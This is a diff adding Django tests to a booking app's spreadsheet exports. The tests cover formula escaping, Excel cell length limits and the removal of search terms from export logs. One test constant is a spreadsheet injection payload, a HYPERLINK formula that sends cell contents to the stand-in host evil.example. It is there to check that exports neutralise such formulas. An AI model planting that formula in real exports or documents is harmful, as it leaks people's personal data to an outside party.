@@ -178,3 +178,66 @@ def test_every_stored_text_field_survives_both_export_formats(client, booking_ad
                     field,
                 )
     assert Booking.objects.count() == len(stored)
+
+
+# What editors write ends up in the exports too ---------------------------------
+
+FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&D2&E2,"Open")'
+
+
+def test_an_editors_question_label_never_runs_as_a_formula_in_an_export(client, booking_admin, form_page):
+    """An editor's label is a column heading in the Booking administrators' spreadsheet of bookers."""
+    client.force_login(booking_admin)
+    BookingFormField.objects.filter(page=form_page, label="NHS region").update(label=FORMULA_LABEL)
+    make_booking(form_page, name="Ada Lovelace", form_data={"nhs_region": "North West"})
+
+    url = export_urls(form_page, "xlsx")["a workshop's with needs"]
+    sheet = load_workbook(io.BytesIO(b"".join(client.get(url).streaming_content))).active
+    headings = next(sheet.iter_rows(max_row=1))
+    assert all(cell.data_type != "f" for cell in headings), "a heading is a live formula"
+    assert "'" + FORMULA_LABEL in [cell.value for cell in headings]
+
+    rows = exported(client, form_page, "csv")["a workshop's"]
+    assert "'" + FORMULA_LABEL in rows[0]
+
+
+def test_no_excel_cell_is_longer_than_excel_can_hold(client, booking_admin, form_page):
+    client.force_login(booking_admin)
+    make_booking(form_page, name="Ada Lovelace", form_data={"anything_else": "x" * 40_000})
+    (row,) = exported(client, form_page, "xlsx")["a workshop's"]
+    assert len(row["Anything else"]) == 32_767
+    assert row["Anything else"].endswith("…")
+    (csv_row,) = exported(client, form_page, "csv")["a workshop's"]
+    assert csv_row["Anything else"] == "x" * 40_000, "CSV has no such limit: nothing is cut"
+
+
+def test_an_export_records_that_the_list_was_searched_but_not_for_whom(client, booking_admin, form_page):
+    from wagtail.models import ModelLogEntry, PageLogEntry
+
+    client.force_login(booking_admin)
+    make_booking(form_page, name="Ada Lovelace", email="ada@example.nhs.uk")
+    for url in export_urls(form_page, "csv").values():
+        client.get(url + "&q=ada%40example.nhs.uk")
+    entries = [*PageLogEntry.objects.filter(action="events.export_bookings")]
+    entries += ModelLogEntry.objects.filter(action="events.export_bookings")
+    assert len(entries) == 4
+    for entry in entries:
+        assert entry.data["searched"] is True
+        assert "ada" not in str(entry.data)
+
+
+def test_export_records_made_before_forget_what_was_searched(booking_admin, form_page):
+    """The data migration that takes the search terms out of earlier export records (events/0009)."""
+    import importlib
+
+    from django.apps import apps
+    from wagtail.models import PageLogEntry
+
+    migration = importlib.import_module("events.migrations.0009_export_logs_keep_no_search_terms")
+    workshop = form_page.get_parent()
+    PageLogEntry.objects.log_action(
+        workshop, "events.export_bookings", user=booking_admin, data={"format": "csv", "filters": "q=ada%40nhs.net&x=1"}
+    )
+    migration.forget_search_terms(apps, schema_editor=None)
+    (entry,) = PageLogEntry.objects.filter(action="events.export_bookings")
+    assert entry.data == {"format": "csv", "filters": "x=1", "searched": True}
